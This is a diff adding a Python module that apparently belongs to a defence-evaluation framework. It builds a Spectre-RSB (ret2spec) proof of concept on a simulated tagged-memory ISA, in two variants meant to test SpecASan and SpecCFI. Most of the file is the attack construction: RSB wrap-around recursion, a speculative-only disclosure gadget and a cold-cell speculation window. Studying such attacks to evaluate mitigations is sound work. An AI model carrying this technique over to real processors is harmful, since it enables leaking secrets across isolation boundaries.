@@ -1,0 +1,115 @@
+"""Spectre-v5 / Spectre-RSB (ret2spec).
+
+A recursive call chain one level deeper than the 16-entry circular RSB
+wraps the buffer: the outermost return's prediction re-reads a *stale*
+slot and speculatively returns into the attacker-controlled inner return
+site.  A guard there (``CBNZ X26``) is taken on every architectural inner
+return but falls into the disclosure gadget exactly when entered from the
+wrapped misprediction (depth counter already zero) — the gadget never runs
+architecturally.  The outermost return is held unresolved by restoring LR
+from a cold memory cell.
+
+Variants mirror Spectre-v2's: ``mismatched-tag`` is stopped by SpecASan's
+tag check; ``matched-tag`` (an in-domain gadget) is only stopped by
+control-flow enforcement — SpecCFI's deep shadow stack predicts the
+correct return target, so speculation never reaches the gadget.
+"""
+
+from __future__ import annotations
+
+from repro.attacks.common import (
+    AttackProgram,
+    emit_transmit,
+    make_probe_array,
+    plant_secret,
+    PROBE_BASE,
+    SCRATCH_BASE,
+    SECRET_BASE,
+    slow_cell_segment,
+    SLOW_CELLS,
+    TAG_PUBLIC,
+    TAG_SECRET,
+)
+from repro.isa.builder import ProgramBuilder
+from repro.mte.tags import with_key
+
+SECRET_VALUE = 11
+#: One deeper than the RSB so the outermost return reads a wrapped slot.
+DEPTH = 17
+
+VARIANTS = ("mismatched-tag", "matched-tag")
+
+
+def build(variant: str = "mismatched-tag") -> AttackProgram:
+    """Construct the Spectre-RSB PoC for ``variant``."""
+    if variant not in VARIANTS:
+        raise ValueError(f"unknown spectre-v5 variant {variant!r}")
+    key = TAG_PUBLIC if variant == "mismatched-tag" else TAG_SECRET
+    b = ProgramBuilder()
+
+    plant_secret(b, SECRET_VALUE)
+    make_probe_array(b)
+    b.zero_segment("callstack", SCRATCH_BASE, 0x400)
+    slow_cell_segment(b, count=20, values=[0])  # cell 0 patched post-link
+
+    b.li("X20", with_key(SECRET_BASE, TAG_SECRET))
+    b.ldrb("X21", "X20", note="victim warms its secret line")
+    b.sb(note="wait for the warm-up fill")
+
+    b.li("X2", with_key(SECRET_BASE, key), note="gadget pointer")
+    b.li("X3", PROBE_BASE)
+    b.li("X28", SCRATCH_BASE + 0x200, note="manual call stack")
+    b.li("X26", 0, note="recursion depth")
+    b.li("X14", SLOW_CELLS, note="cold cell holding the outermost LR")
+
+    b.bl("f")
+    return_to_main = b.current_address()
+    b.halt()
+
+    b.label("f")
+    b.sub("X28", "X28", imm=8)
+    b.str_("X30", "X28", note="push LR")
+    b.add("X26", "X26", imm=1)
+    b.cmp("X26", imm=DEPTH)
+    b.b_cond("HS", "unwind")
+    b.bl("f")
+    # --- the wrapped-RSB speculative entry point -------------------------
+    b.label("inner_return")
+    b.cbnz("X26", "unwind", note="architectural inner returns skip the gadget")
+    # Reached only speculatively, from the outermost RET's stale prediction
+    # (X26 == 0 once the whole chain has unwound).
+    b.ldrb("X5", "X2", note="ACCESS: speculative-only secret read")
+    emit_transmit(b, "X5", "X3")
+    b.b("unwind")
+    # ----------------------------------------------------------------------
+    b.label("unwind")
+    b.sub("X26", "X26", imm=1)
+    b.cbnz("X26", "fast_restore")
+    # Index the cold cell by depth: early wrong-path visits (while the CBNZ
+    # predictor is still cold) carry X26 != 0 and touch *other* lines, so
+    # the real (depth-0) cell stays cold until the outermost unwind.
+    b.lsl("X24", "X26", imm=12)
+    b.ldr("X30", "X14", rm="X24",
+          note="outermost LR from a COLD cell (big window)")
+    b.b("do_ret")
+    b.label("fast_restore")
+    b.ldr("X30", "X28", note="pop LR")
+    b.label("do_ret")
+    b.add("X28", "X28", imm=8)
+    b.ret()
+
+    program = b.build()
+    # The cold cell must hold the true outermost return address.
+    for segment in program.data_segments:
+        if segment.name == "slow_cells":
+            import struct
+            data = bytearray(segment.data)
+            data[0:8] = struct.pack("<Q", return_to_main)
+            segment.data = bytes(data)
+            break
+    return AttackProgram(
+        name="spectre-v5", variant=variant,
+        builder_program=program,
+        secret_value=SECRET_VALUE, secret_address=SECRET_BASE,
+        benign_values=[],
+        description="ret2spec via circular-RSB wrap-around")
